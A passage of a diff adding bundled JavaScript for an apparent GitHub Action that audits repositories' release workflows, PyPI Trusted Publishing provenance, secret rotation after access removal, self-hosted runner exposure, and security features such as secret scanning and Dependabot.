+            message: `${file}:${y.pos(node).line}: ${message}`,
+            location: at(node),
+            key: `${file}\0${key}`,
+            evidence,
+            properties: { file }
+        }
+    });
+    const names = publishing.map((j) => j.id).join(', ');
+    // S8-2: an unintended event that reaches a publish job.
+    for (const { event, node } of triggers(y)) {
+        if (!UNINTENDED_TRIGGERS.includes(event))
+            continue;
+        const reached = publishing.filter((j) => {
+            const allowed = eventsAllowedByIf(j);
+            return !allowed || allowed.has(event);
+        });
+        if (reached.length) {
+            issue(publish_RULES.publishTrigger, node, `\`${event}\` starts the workflow that publishes (job ${reached.map((j) => j.id).join(', ')}).`, `trigger:${event}`, event);
+        }
+    }
+    const byId = new Map(jobs.map((j) => [j.id, j]));
+    const releaseJobs = new Set(publishing.flatMap((j) => [j.id, ...ancestors(j, byId)]));
+    for (const job of publishing) {
+        // S8-8: the publish job runs in an environment (whose reviewers and branch policy guard it).
+        // A job that calls a reusable workflow cannot have one: the called workflow's job is checked in its own file.
+        if (job.publishes && !job.node.has('environment'))
+            issue(publish_RULES.publishNoEnvironment, job.keyNode, `publish job ${job.id} has no \`environment:\`.`, `environment:${job.id}`);
+        // S6-10 / S8-13: credentials instead of Trusted Publishing.
+        for (const step of job.steps) {
+            if (step.uses && PUBLISH_ACTION.test(actionName(step.uses))) {
+                const withNode = step.node.get('with', true);
+                const password = (0,dist/* isMap */.jh)(withNode) ? withNode.items.find((p) => str(p.key) === 'password') : undefined;
+                if (password)
+                    issue(publish_RULES.publishPassword, password.key, `publish job ${job.id} passes \`password:\` to pypa/gh-action-pypi-publish.`, `password:${job.id}:with.password`, 'password');
+                const printHash = (0,dist/* isMap */.jh)(withNode) ? withNode.get('print-hash', true) : undefined;
+                if (!printHash || !['true', 'yes'].includes(String(str(printHash)).toLowerCase())) {
+                    issue(publish_RULES.publishNoPrintHash, step.usesNode, `pypa/gh-action-pypi-publish in job ${job.id} does not set \`print-hash: true\`.`, `print-hash:${job.id}`);
+                }
+            }
+        }
+        const seen = new Set();
+        // The job's own values and the workflow-level env it inherits.
+        for (const s of [...scalars(job.node), ...scalars(mapGet(y.doc.contents, 'env'))]) {
+            const secret = CREDENTIAL_SECRET.exec(s.value)?.[1];
+            const envName = s.key && CREDENTIAL_ENV.test(s.key) ? s.key : undefined;
+            const what = envName ?? (secret ? `secrets.${secret}` : undefined);
+            if (!what || seen.has(what) || s.key === 'password')
+                continue;
+            seen.add(what);
+            issue(publish_RULES.publishPassword, s.keyNode ?? s.node, `publish job ${job.id} uses a long-lived credential (${what}).`, `password:${job.id}:${what}`, what);
+        }
+    }
+    // S8-13: an OIDC token only where it is needed: the publish job, or a signing job.
+    const wfToken = grantsIdToken(y.doc.contents);
+    if (wfToken)
+        issue(publish_RULES.publishIdTokenScope, wfToken, `the workflow grants \`id-token: write\` to every job (publish job: ${names}).`, 'id-token:workflow');
+    for (const job of jobs) {
+        const token = job.publishes || job.callsPublisher ? undefined : grantsIdToken(job.node);
+        if (!token || job.steps.some((s) => s.uses && OIDC_SIGNERS.test(actionName(s.uses))))
+            continue;
+        issue(publish_RULES.publishIdTokenScope, token, `job ${job.id} does not publish or sign but gets \`id-token: write\`.`, `id-token:${job.id}`);
+    }
+    // S8-9: every action of a publishing workflow pinned to a commit.
+    for (const u of (0,src/* findUses */.O5)(y)) {
+        const pinned = u.kind === 'local' || (u.kind === 'docker' ? !!u.ref?.startsWith('sha256:') : src/* FULL_SHA */.RG.test(u.ref ?? ''));
+        if (!pinned)
+            issues.push({
+                rule: publish_RULES.publishUnpinned,
+                input: {
+                    message: `${file}:${u.line}: \`${u.raw}\` is not pinned to a full commit SHA.`,
+                    location: { file, line: u.line, column: u.column },
+                    key: `${file}\0unpinned:${u.where}:${u.raw}`,
+                    evidence: u.raw,
+                    properties: { file }
+                }
+            });
+    }
+    // S8-15: no cache in the jobs that build and publish the release (a poisoned cache ships).
+    for (const id of releaseJobs) {
+        for (const step of byId.get(id).steps) {
+            if (!step.uses)
+                continue;
+            const action = actionName(step.uses);
+            const withNode = step.node.get('with', true);
+            const cacheOpt = CACHING_SETUP.test(action)
+                ? mapGet(withNode, 'cache')
+                : /^astral-sh\/setup-uv$/i.test(action)
+                    ? mapGet(withNode, 'enable-cache')
+                    : undefined;
+            const caches = /^actions\/cache(\/|$)/i.test(action) ||
+                (cacheOpt !== undefined && !['', 'false'].includes(String(str(cacheOpt) ?? '').toLowerCase()));
+            if (caches)
+                issue(publish_RULES.publishCache, step.usesNode, `release job ${id} restores a cache (${action}${cacheOpt ? ` with ${str(cacheOpt)}` : ''}).`, `cache:${id}:${action}`, action);
+        }
+    }
+    return { issues, publishJobs: publishing.map((j) => j.id) };
+}
+/**
+ * The publish/* rules over a repository's workflow files. A workflow that
+ * calls a local reusable workflow which publishes is itself a publishing
+ * workflow (its triggers start the release), so the set of publishing files
+ * is grown until it is stable (GitHub nests reusable workflows at most four
+ * levels deep).
+ */
+const publishing = {
+    id: 'publish',
+    scope: 'repo',
+    rules: (0,src/* rulesOf */.fD)(publish_RULES),
+    run({ name, workflows, add }) {
+        const parsed = (workflows() ?? []).filter((w) => !!w.y);
+        const publishers = new Set();
+        for (let depth = 0; depth <= 4; depth++) {
+            const before = publishers.size;
+            for (const w of parsed)
+                if (publishes(w.y, publishers))
+                    publishers.add(w.file);
+            if (publishers.size === before)
+                break;
+        }
+        for (const w of parsed.filter((x) => publishers.has(x.file))) {
+            for (const { rule, input } of publishWorkflowFindings(w.file, w.y, publishers).issues)
+                add(rule, name, { ...input, message: `${name}: ${input.message}` });
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/pypi.ts
+// PyPI side of the audit: who owns each package, and whether its latest
+// release was published by this repository through Trusted Publishing. The
+// provenance's publisher fields are compared; verifying the attestation
+// signatures is verify-deps' job.
+
+/** Reads what the checks need; throws a one-line error when PyPI cannot answer. */
+async function packageState(pypi, name) {
+    const p = await pypi.project(name);
+    if (!p)
+        return 'not-found';
+    const state = {
+        name,
+        version: p.version,
+        owners: p.ownership?.roles.filter((r) => r.role === 'Owner').map((r) => r.user),
+        organization: p.ownership?.organization
+    };
+    const file = p.files[0];
+    if (!file)
+        return state;
+    try {
+        const prov = await pypi.provenance(pypi.integrityUrl(name, p.version, file));
+        state.publisher = (0,src/* trustedPublisher */.sN)(prov?.attestation_bundles[0]?.publisher);
+    }
+    catch (e) {
+        throw new Error(`${name} ${p.version}: ${(0,src/* oneLine */.TN)(e)}`);
+    }
+    return state;
+}
+/** `[project] name` of a pyproject.toml, or undefined. */
+function projectName(doc) {
+    const project = doc.project;
+    return typeof project?.name === 'string' ? project.name : undefined;
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/pypi-packages.ts
+// The PyPI packages a repository publishes (SPEC 6, SPEC 8): who owns each,
+// and whether its latest release was published by this repository through
+// Trusted Publishing from one of its environments.
+
+
+const pypi_packages_RULES = (0,src/* defineRules */.x0)({
+    pypiSingleOwner: {
+        id: 'pypi/single-owner',
+        title: 'PyPI package has a single owner and no PyPI organization',
+        severity: 'medium',
+        why: 'If the only owner loses their account, nobody can publish fixes, add Trusted Publishers or recover the project.',
+        remediation: 'Add a second maintainer as Owner on PyPI (Manage → Collaborators), or move the project to a PyPI organization.',
+        spec: ['S6-6']
+    },
+    pypiNoProvenance: {
+        id: 'pypi/no-trusted-publishing',
+        title: 'Latest PyPI release has no provenance (not published with Trusted Publishing)',
+        severity: 'high',
+        why: 'A release without provenance was uploaded with a password or API token, which can leak and publish from anywhere.',
+        remediation: 'Add a Trusted Publisher for this repository, workflow and environment on PyPI, publish with pypa/gh-action-pypi-publish, and revoke the API tokens.',
+        spec: ['S6-10', 'S8-13']
+    },
+    pypiPublisherMismatch: {
+        id: 'pypi/publisher-mismatch',
+        title: 'Latest PyPI release was published from another repository or without an environment',
+        severity: 'high',
+        why: 'The Trusted Publisher decides who can publish; one outside this repository, or without a protected environment, bypasses its reviews.',
+        remediation: 'On PyPI, keep only the Trusted Publisher for this repository with its release environment; remove the others.',
+        spec: ['S8-8', 'S8-13']
+    }
+});
+/** The not-checked name of the pypi/* rules as a group. */
+const PYPI_CHECK = 'pypi/*';
+const pypiPackages = {
+    id: 'pypi-packages',
+    scope: 'repo',
+    rules: (0,src/* rulesOf */.fD)(pypi_packages_RULES),
+    start({ org, pypi, skip }) {
+        if (!pypi)
+            skip(PYPI_CHECK, 'not checked: no PyPI URL given', org);
+    },
+    run: (c) => (c.pypi ? auditPackages(c.pypi, c) : undefined)
+};
+async function auditPackages(pypi, c) {
+    const { org, name, repo, failed } = c;
+    let packages = c.config.packages[name];
+    if (!packages) {
+        if (failed('pyproject'))
+            return c.skip(PYPI_CHECK, 'not checked: pyproject.toml not readable (needs contents: read)', name);
+        const text = repo.pyproject?.text;
+        if (!text)
+            return; // not a Python package, or not configured
+        try {
+            const pkg = projectName((0,src/* parseTomlFile */.gm)(text, `${name}/pyproject.toml`));
+            packages = pkg ? [pkg] : [];
+        }
+        catch (e) {
+            return c.skip(PYPI_CHECK, `not checked: ${(0,src/* oneLine */.TN)(e)}`, name);
+        }
+    }
+    const envs = failed('environments') ? undefined : new Set((repo.environments?.nodes ?? []).map((e) => e.name));
+    for (const pkg of packages) {
+        let state;
+        try {
+            state = await c.limit(() => packageState(pypi, pkg));
+        }
+        catch (e) {
+            c.skip(PYPI_CHECK, `not checked for ${pkg}: ${(0,src/* oneLine */.TN)(e)}`, name);
+            continue;
+        }
+        if (state === 'not-found') {
+            c.skip(PYPI_CHECK, `not checked: ${pkg} is not on PyPI`, name);
+            continue;
+        }
+        const props = { package: pkg, version: state.version };
+        if (!state.owners) {
+            c.skip(pypi_packages_RULES.pypiSingleOwner.id, `not checked: PyPI did not say who owns ${pkg}`, name);
+        }
+        else if (state.owners.length < 2 && !state.organization) {
+            c.add(pypi_packages_RULES.pypiSingleOwner, name, {
+                message: `${name}: PyPI package ${pkg} has ${state.owners.length} owner${state.owners.length === 1 ? '' : 's'} and no PyPI organization.`,
+                key: pkg,
+                properties: props
+            });
+        }
+        const p = state.publisher;
+        if (!p) {
+            c.add(pypi_packages_RULES.pypiNoProvenance, name, {
+                message: `${name}: the latest release of ${pkg} (${state.version}) has no provenance.`,
+                key: pkg,
+                properties: props
+            });
+            continue;
+        }
+        const problems = [];
+        if (p.kind !== 'GitHub' || (p.repository ?? '').toLowerCase() !== `${org}/${name}`.toLowerCase())
+            problems.push(`published from ${p.kind ?? '?'} ${p.repository ?? '?'}`);
+        if (!p.environment)
+            problems.push('published without an environment');
+        else if (envs && !envs.has(p.environment))
+            problems.push(`environment ${p.environment} does not exist in the repository`);
+        if (problems.length) {
+            c.add(pypi_packages_RULES.pypiPublisherMismatch, name, {
+                message: `${name}: the latest release of ${pkg} (${state.version}) was ${problems.join('; ')} (workflow ${p.workflow ?? '?'}).`,
+                key: pkg,
+                properties: { ...props, publisher: p }
+            });
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/rotation.ts
+// Rotation after a removal (SPEC 6): the access snapshot of this run against
+// the previous run's.
+
+const rotation_RULES = (0,src/* defineRules */.x0)({
+    accessRemoved: {
+        id: 'people/removed-rotate-secrets',
+        title: 'Person lost access: rotate the secrets and deploy keys they could reach',
+        severity: 'medium',
+        why: 'Someone who had write access could have copied secrets or deploy keys; SPEC 6 asks to rotate what predates their removal.',
+        remediation: 'Rotate each listed secret (and revoke the old token at its issuer) and replace each listed deploy key; then the finding disappears at the next run.',
+        spec: ['S6-8', 'S6-5']
+    }
+});
+/**
+ * People who had write access at the previous run and no longer have it, per
+ * repository audited both times, with the secrets and deploy keys older than
+ * the previous run (the removal happened after it): SPEC 6 says to rotate
+ * them. A removal stays in the snapshot, and its finding in every report,
+ * until each of those secrets has been updated and each key replaced.
+ */
+const rotation = {
+    id: 'rotation',
+    scope: 'after',
+    rules: (0,src/* rulesOf */.fD)(rotation_RULES),
+    async run({ org, previous, gathered, inScope, add, skip, notes }) {
+        if (!previous)
+            return skip(rotation_RULES.accessRemoved.id, 'not checked: no previous report given (input previous-report)', org);
+        const now = gathered.access;
+        for (const [repo, before] of Object.entries(previous.access)) {
+            const after = now[repo];
+            if (!after) {
+                // In this run's scope but not audited (rate budget, an error): keep what the previous run knew for the next one.
+                // Another shard's repositories are that shard's to carry.
+                if (inScope(repo))
+                    now[repo] = before;
+                continue;
+            }
+            const pending = new Map((before.removed ?? []).map((r) => [r.login.toLowerCase(), r]));
+            if (after.people && before.people) {
+                const current = new Set(after.people.map((p) => p.toLowerCase()));
+                for (const p of before.people)
+                    if (!current.has(p.toLowerCase()) && !pending.has(p.toLowerCase()))
+                        pending.set(p.toLowerCase(), { login: p, since: previous.finishedAt });
+            }
+            // Someone who has write access again needs no rotation on their account.
+            for (const p of after.people ?? [])
+                pending.delete(p.toLowerCase());
+            if (!pending.size)
+                continue;
+            if (!after.secrets || !after.deployKeys) {
+                skip(rotation_RULES.accessRemoved.id, `not checked: ${[...pending.values()].map((r) => r.login).join(', ')} lost write access, but the secrets or deploy keys to rotate were not readable`, repo);
+                after.removed = [...pending.values()];
+                continue;
+            }
+            const still = [];
+            for (const r of pending.values()) {
+                const secrets = after.secrets.filter((x) => x.updatedAt < r.since);
+                const keys = after.deployKeys.filter((k) => k.createdAt < r.since);
+                if (!secrets.length && !keys.length) {
+                    notes.push(`${r.login} no longer has write access to ${repo} (since ${r.since.slice(0, 10)}); no secret or deploy key there predates the removal.`);
+                    continue;
+                }
+                still.push(r);
+                const what = [
+                    ...secrets.map((x) => `secret ${x.name} (updated ${x.updatedAt.slice(0, 10)})`),
+                    ...keys.map((k) => `deploy key "${k.title}" (added ${k.createdAt.slice(0, 10)})`)
+                ];
+                add(rotation_RULES.accessRemoved, repo, {
+                    message: `${repo}: ${r.login} lost write access after ${r.since.slice(0, 10)}; rotate ${what.join(', ')}.`,
+                    key: `${r.login}/${r.since}`,
+                    properties: {
+                        login: r.login,
+                        since: r.since,
+                        secrets: secrets.map((x) => x.name),
+                        deployKeys: keys.map((k) => k.title)
+                    }
+                });
+            }
+            if (still.length)
+                after.removed = still;
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/runner-groups.ts
+// Self-hosted runner groups open to public repositories, where anyone's pull
+// request can reach the runners.
+
+
+const runner_groups_RULES = (0,src/* defineRules */.x0)({
+    runnerGroupPublic: {
+        id: 'org/runner-group-public',
+        title: 'Self-hosted runners are available to public repositories',
+        severity: 'high',
+        why: "Anyone can open a pull request on a public repository; its workflow can target the group's runners, run code on the machine and persist there (the PyTorch runner compromise).",
+        remediation: 'Untick "Allow public repositories" on the runner group, or use ephemeral, isolated runners and require approval for all outside contributors.',
+        spec: ['S8-16']
+    }
+});
+const runnerGroups = {
+    id: 'runner-groups',
+    scope: 'org',
+    rules: (0,src/* rulesOf */.fD)(runner_groups_RULES),
+    async run({ io, org, add, skip }) {
+        const need = 'organization self-hosted runners: read';
+        let groups;
+        try {
+            groups = await listAll(io, 'GET /orgs/{org}/actions/runner-groups', { org }, 'runner_groups');
+        }
+        catch (e) {
+            return skip(runner_groups_RULES.runnerGroupPublic.id, `not checked: ${(0,src/* describeApiError */.gg)(e, need)}`, org);
+        }
+        for (const g of groups.filter((x) => x.allows_public_repositories)) {
+            try {
+                const runners = await listAll(io, 'GET /orgs/{org}/actions/runner-groups/{runner_group_id}/runners', { org, runner_group_id: g.id }, 'runners');
+                // An empty group is a latent risk only: a runner added later is exposed at once.
+                add(runner_groups_RULES.runnerGroupPublic, undefined, {
+                    severity: runners.length ? 'high' : 'low',
+                    message: `Runner group "${g.name}" of ${org} is open to public repositories${runners.length ? ` and has ${runners.length} runner${runners.length === 1 ? '' : 's'}` : ' (no runners in it now)'}.`,
+                    key: String(g.id),
+                    properties: { group: g.name, runners: runners.map((r) => r.name) }
+                });
+            }
+            catch (e) {
+                skip(runner_groups_RULES.runnerGroupPublic.id, `not checked for runner group "${g.name}": ${(0,src/* describeApiError */.gg)(e, need)}`, org);
+            }
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/secrets.ts
+// Actions secrets that look like long-lived publish tokens (SPEC 6, SPEC 8):
+// names only, from REST (GraphQL has no field for them). The names and when
+// each was last updated go into the access snapshot for the rotation check.
+
+const secrets_RULES = (0,src/* defineRules */.x0)({
+    longLivedToken: {
+        id: 'repo/long-lived-token-secret',
+        title: 'Secret that looks like a long-lived PyPI or API token',
+        severity: 'high',
+        why: 'A PyPI API token in a repository secret can publish any release from any workflow that reads it; Trusted Publishing makes it unnecessary.',
+        remediation: 'Configure PyPI Trusted Publishing for the publish workflow and environment, then delete the secret and revoke the token on PyPI.',
+        spec: ['S6-10', 'S8-13']
+    }
+});
+const secrets = {
+    id: 'secrets',
+    scope: 'repo',
+    rules: (0,src/* rulesOf */.fD)(secrets_RULES),
+    async run({ io, org, name, config, limit, gathered, add, skip }) {
+        try {
+            const { data } = (await limit(() => io.request('GET /repos/{owner}/{repo}/actions/secrets', { owner: org, repo: name, per_page: 100 })));
+            (gathered.access[name] ??= {}).secrets = (data.secrets ?? []).map((s) => ({
+                name: s.name,
+                updatedAt: s.updated_at ?? s.created_at
+            }));
+            for (const s of data.secrets ?? []) {
+                if (!config.tokenSecretPatterns.some((p) => p.test(s.name)))
+                    continue;
+                add(secrets_RULES.longLivedToken, name, {
+                    message: `${name}: secret ${s.name} (last updated ${String(s.updated_at ?? s.created_at).slice(0, 10)}) looks like a long-lived publish token.`,
+                    key: s.name,
+                    properties: { secret: s.name, updatedAt: s.updated_at ?? s.created_at }
+                });
+            }
+        }
+        catch (e) {
+            skip(secrets_RULES.longLivedToken.id, `not checked: ${(0,src/* describeApiError */.gg)(e, 'secrets: read')}`, name);
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/listing.ts
+/** Public by `visibility`, or by `private` where GitHub gives no visibility. */
+const isPublic = (listing) => listing.visibility ? listing.visibility === 'public' : listing.private === false;
+/** Whether the repository's custom property has the value (or one of the values) the config names. */
+function propertyMatches(listing, m) {
+    if (!m)
+        return false;
+    const v = listing.custom_properties?.[m.property];
+    const wanted = (Array.isArray(m.value) ? m.value : [m.value]).map((x) => x.toLowerCase());
+    return (Array.isArray(v) ? v : [v]).some((x) => typeof x === 'string' && wanted.includes(x.toLowerCase()));
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/security-features.ts
+// A repository's security features, the Scientific Python "core 5" beside
+// branch protection: secret scanning and push protection, code scanning,
+// private vulnerability reporting, Dependabot alerts, security updates and
+// action updates. Most of it
+// comes from data already fetched (the repository list's
+// `security_and_analysis`, the batched GraphQL answer, the workflow files);
+// REST only for private vulnerability reporting (public repositories) and
+// CodeQL default setup (only when no code-scanning workflow was seen).
+
+
+
+const security_features_RULES = (0,src/* defineRules */.x0)({
+    secretScanningOff: {
+        id: 'repo/secret-scanning-off',
+        title: 'Secret scanning is off',
+        severity: 'medium',
+        why: 'Tokens committed by mistake stay usable until someone notices; secret scanning is free for public repositories and alerts at once.',
+        remediation: 'Settings → Code security → Secret Protection: enable secret scanning.',
+        spec: ['S6-4']
+    },
+    pushProtectionOff: {
+        id: 'repo/push-protection-off',
+        title: 'Secret scanning push protection is off',
+        severity: 'low',
+        why: 'Push protection refuses a push that contains a known token format, before the token becomes public.',
+        remediation: 'Settings → Code security → Secret Protection: enable push protection.',
+        spec: ['S6-4']
+    },
+    codeScanningOff: {
+        id: 'repo/code-scanning-off',
+        title: 'No code scanning',
+        severity: 'low',
+        why: 'Code scanning (CodeQL, zizmor) finds injectable workflows and unsafe code before release; the Scientific Python "core 5" includes it.',
+        remediation: 'Settings → Code security → Code scanning: enable CodeQL default setup (it covers Python and GitHub Actions workflows), or add a CodeQL or zizmor workflow.',
+        spec: ['S8-16']
+    },
+    pvrOff: {
+        id: 'repo/private-vulnerability-reporting-off',
+        title: 'Private vulnerability reporting is off',
+        severity: 'low',
+        why: 'Without a private channel, reporters open public issues about vulnerabilities or give up.',
+        remediation: 'Settings → Code security → Private vulnerability reporting: enable, and mention it in SECURITY.md.',
+        spec: ['S6-1']
+    },
+    dependabotAlertsOff: {
+        id: 'repo/dependabot-alerts-off',
+        title: 'Dependabot alerts are off',
+        severity: 'medium',
+        why: 'Nobody is told when a dependency the project pins gets a known vulnerability or is found to be malware.',
+        remediation: 'Settings → Code security → Dependabot alerts: enable (free for all repositories).',
+        spec: ['S8-16']
+    },
+    dependabotSecurityUpdatesOff: {
+        id: 'repo/dependabot-security-updates-off',
+        title: 'Dependabot security updates are off',
+        severity: 'low',
+        why: 'Security updates open the pull request that fixes a vulnerable dependency, so the fix does not wait for someone to notice the alert.',
+        remediation: 'Settings → Code security → Dependabot security updates: enable.',
+        spec: ['S8-16']
+    },
+    dependabotActionsMissing: {
+        id: 'repo/dependabot-actions-missing',
+        title: 'Dependabot does not update the pinned GitHub Actions',
+        severity: 'low',
+        why: "SHA-pinned actions do not update themselves; without Dependabot's github-actions updates pins age and miss security fixes, and hand-made updates are not reviewed the same way.",
+        remediation: 'Add `.github/dependabot.yml` with a `package-ecosystem: github-actions` entry (grouped, with a cooldown), reviewed like any pull request.',
+        spec: ['S8-10']
+    }
+});
+const CODE_SCANNING_ACTION = /^(github\/codeql-action\/(analyze|upload-sarif)|zizmorcore\/zizmor-action)$/i;
+const securityFeatures = {
+    id: 'security-features',
+    scope: 'repo',
+    rules: (0,src/* rulesOf */.fD)(security_features_RULES),
+    run: features
+};
+async function features(c) {
+    const { name, repo, listing, failed, add, skip } = c;
+    const workflows = c.workflows();
+    const pub = isPublic(listing);
+    const sa = listing.security_and_analysis;
+    const adminOnly = 'not checked: needs administration: read (GitHub shows security_and_analysis to repository administrators only)';
+    const enabled = (s) => s?.status === 'enabled';
+    // Secret scanning is free on public repositories; on private ones it is a paid product, not a finding.
+    if (pub) {
+        if (!sa?.secret_scanning)
+            skip(security_features_RULES.secretScanningOff.id, adminOnly, name);
+        else if (!enabled(sa.secret_scanning))
+            add(security_features_RULES.secretScanningOff, name, { message: `${name}: secret scanning is off.` });
+        else if (sa.secret_scanning_push_protection && !enabled(sa.secret_scanning_push_protection)) {
+            add(security_features_RULES.pushProtectionOff, name, { message: `${name}: secret scanning push protection is off.` });
+        }
+    }
+    // Dependabot alerts (GraphQL), then security updates (only meaningful with alerts on).
+    const alertsErr = failed('vulnerabilityAlerts');
+    if (alertsErr || typeof repo.vulnerabilityAlerts !== 'boolean') {
+        skip(security_features_RULES.dependabotAlertsOff.id, `not checked: needs administration: read${alertsErr ? ` (${alertsErr.message})` : ''}`, name);
+    }
+    else if (!repo.vulnerabilityAlerts) {
+        add(security_features_RULES.dependabotAlertsOff, name, { message: `${name}: Dependabot alerts are off.` });
+    }
+    else if (!sa?.dependabot_security_updates) {
+        skip(security_features_RULES.dependabotSecurityUpdatesOff.id, adminOnly, name);
+    }
+    else if (!enabled(sa.dependabot_security_updates)) {
+        add(security_features_RULES.dependabotSecurityUpdatesOff, name, { message: `${name}: Dependabot security updates are off.` });
+    }
+    if (workflows)
+        dependabotActions(workflows, c);
+    // Private vulnerability reporting exists for public repositories only.
+    if (pub) {
+        try {
+            const { enabled: on } = (await c.limit(() => c.io.request('GET /repos/{owner}/{repo}/private-vulnerability-reporting', { owner: c.org, repo: name }))).data;
+            if (on === false)
+                add(security_features_RULES.pvrOff, name, { message: `${name}: private vulnerability reporting is off.` });
+            else if (on !== true)
+                skip(security_features_RULES.pvrOff.id, 'not checked: GitHub returned no "enabled"', name);
+        }
+        catch (e) {
+            skip(security_features_RULES.pvrOff.id, `not checked: ${e.status === 404 ? 'not available on this GitHub' : (0,src/* describeApiError */.gg)(e, 'metadata: read')}`, name);
+        }
+    }
+    await codeScanning(workflows, pub || enabled(sa?.advanced_security) || enabled(sa?.code_security), c);
+}
+/** Dependabot's `github-actions` updates, for repositories that have workflows to update. */
+function dependabotActions(workflows, { name, repo, failed, add, skip }) {
+    const usesActions = workflows.some((w) => w.uses?.some((u) => u.kind !== 'local'));
+    if (!usesActions)
+        return;
+    const err = failed('dependabot') ?? failed('dependabot2');
+    if (err)
+        return skip(security_features_RULES.dependabotActionsMissing.id, `not checked: needs contents: read (${err.message})`, name);
+    const [file, text] = repo.dependabot?.text != null
+        ? ['.github/dependabot.yml', repo.dependabot.text]
+        : repo.dependabot2?.text != null
+            ? ['.github/dependabot.yaml', repo.dependabot2.text]
+            : [];
+    if (text === undefined || file === undefined) {
+        return add(security_features_RULES.dependabotActionsMissing, name, {
+            message: `${name}: no .github/dependabot.yml, so the actions its workflows pin are never updated.`
+        });
+    }
+    let y;
+    try {
+        y = (0,src/* parseYamlFile */.BU)(text, file);
+    }
+    catch (e) {
+        return skip(security_features_RULES.dependabotActionsMissing.id, `not checked: ${(0,src/* oneLine */.TN)(e)}`, name);
+    }
+    const updates = (0,dist/* isMap */.jh)(y.doc.contents) ? y.doc.contents.get('updates', true) : undefined;
+    const ecosystems = (0,dist/* isSeq */.oP)(updates)
+        ? updates.items
+            .map((u) => ((0,dist/* isMap */.jh)(u) ? u.get('package-ecosystem', true) : undefined))
+            .filter(dist/* isScalar */.jn)
+            .map((n) => String(n.value))
+        : [];
+    if (!ecosystems.includes('github-actions')) {
+        add(security_features_RULES.dependabotActionsMissing, name, {
+            message: `${name}: ${file} has no \`package-ecosystem: github-actions\` entry.`,
+            location: { file, line: 1 }
+        });
+    }
+}
+async function codeScanning(workflows, available, c) {
+    const { name, skip, add } = c;
+    const inWorkflow = workflows?.some((w) => w.uses?.some((u) => u.kind === 'action' && CODE_SCANNING_ACTION.test(`${u.owner}/${u.repo}${u.path ? `/${u.path}` : ''}`)));
+    // Private repositories without GitHub Code Security have no code scanning to turn on.
+    if (inWorkflow || !available)
+        return;
+    let state;
+    try {
+        state = (await c.limit(() => c.io.request('GET /repos/{owner}/{repo}/code-scanning/default-setup', { owner: c.org, repo: name }))).data.state;
+    }
+    catch (e) {
+        return skip(security_features_RULES.codeScanningOff.id, `not checked: ${(0,src/* describeApiError */.gg)(e, 'administration: read')}`, name);
+    }
+    if (state === 'configured')
+        return;
+    if (!workflows)
+        return skip(security_features_RULES.codeScanningOff.id, 'not checked: CodeQL default setup is off and the workflow files were not readable (needs contents: read)', name);
+    if (state === 'not-configured')
+        add(security_features_RULES.codeScanningOff, name, {
+            message: `${name}: no CodeQL default setup and no workflow that runs CodeQL or zizmor.`
+        });
+    else
+        skip(security_features_RULES.codeScanningOff.id, `not checked: GitHub returned an unknown default setup state (${String(state)})`, name);
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/security-policy.ts
+// A security policy (SPEC 6): SECURITY.md in the repository, or in the
+// organization's `.github` repository, which GitHub shows on every repository.
+
+const security_policy_RULES = (0,src/* defineRules */.x0)({
+    noSecurityPolicy: {
+        id: 'repo/no-security-policy',
+        title: 'No SECURITY.md (repository or organization .github)',
+        severity: 'low',
+        why: 'Without a security policy, reporters do not know how to disclose a vulnerability privately.',
+        remediation: "Add SECURITY.md to the organization's `.github` repository (applies to all repositories) or to this repository.",
+        spec: ['S6-1']
+    }
+});
+const OWN = ['sec1', 'sec2', 'sec3'];
+const securityPolicy = {
+    id: 'security-policy',
+    scope: 'repo',
+    rules: (0,src/* rulesOf */.fD)(security_policy_RULES),
+    run({ org, name, repo, orgPolicy, failed, add, skip }) {
+        if (OWN.some((f) => repo[f]))
+            return;
+        if (OWN.some((f) => failed(f)) || orgPolicy === undefined)
+            skip(security_policy_RULES.noSecurityPolicy.id, 'not checked: needs contents: read', name);
+        else if (!orgPolicy)
+            add(security_policy_RULES.noSecurityPolicy, name, { message: `${name}: no SECURITY.md in the repository or in ${org}/.github.` });
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/self-hosted-runners.ts
+// Self-hosted runners on public repositories (SPEC 8): anyone's pull request
+// can run code on them and persist on the machine.
+
+
+const self_hosted_runners_RULES = (0,src/* defineRules */.x0)({
+    selfHostedPublic: {
+        id: 'repo/self-hosted-runner-public',
+        title: 'Public repository runs workflows on self-hosted runners',
+        severity: 'high',
+        why: "A pull request from anyone can run code on a self-hosted runner of a public repository and persist on the machine; SciPy's release guidance rules self-hosted runners out.",
+        remediation: 'Move the jobs to GitHub-hosted runners, or use ephemeral runners with approval required for all outside contributors.',
+        spec: ['S8-16']
+    }
+});
+const selfHostedRunners = {
+    id: 'self-hosted-runners',
+    scope: 'repo',
+    rules: (0,src/* rulesOf */.fD)(self_hosted_runners_RULES),
+    run({ name, listing, workflows, add }) {
+        const files = workflows();
+        if (!isPublic(listing) || !files)
+            return;
+        for (const w of files) {
+            if (!w.y)
+                continue;
+            for (const r of (0,src/* jobRunners */.t3)(w.y)) {
+                const kind = (0,src/* classifyRunsOn */.c7)(r.labels);
+                if (kind !== 'self-hosted' && kind !== 'custom')
+                    continue;
+                const line = w.y.pos(r.node).line;
+                const labels = r.labels.join(', ');
+                add(self_hosted_runners_RULES.selfHostedPublic, name, {
+                    // Custom labels may name a GitHub-hosted larger runner: say so and lower the confidence.
+                    severity: kind === 'self-hosted' ? 'high' : 'medium',
+                    confidence: kind === 'self-hosted' ? 'high' : 'low',
+                    message: `${name}: ${w.file}:${line}: job ${r.job} runs on ${kind === 'self-hosted' ? 'a self-hosted runner' : 'custom labels (a self-hosted runner, or a GitHub-hosted larger runner)'} (${labels}) in a public repository.`,
+                    location: { file: w.file, line },
+                    key: `${w.file}\0${r.job}`,
+                    evidence: labels,
+                    properties: { file: w.file, job: r.job, labels: r.labels }
+                });
+            }
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/tokens.ts
+// Fine-grained personal access tokens granted access to the organization:
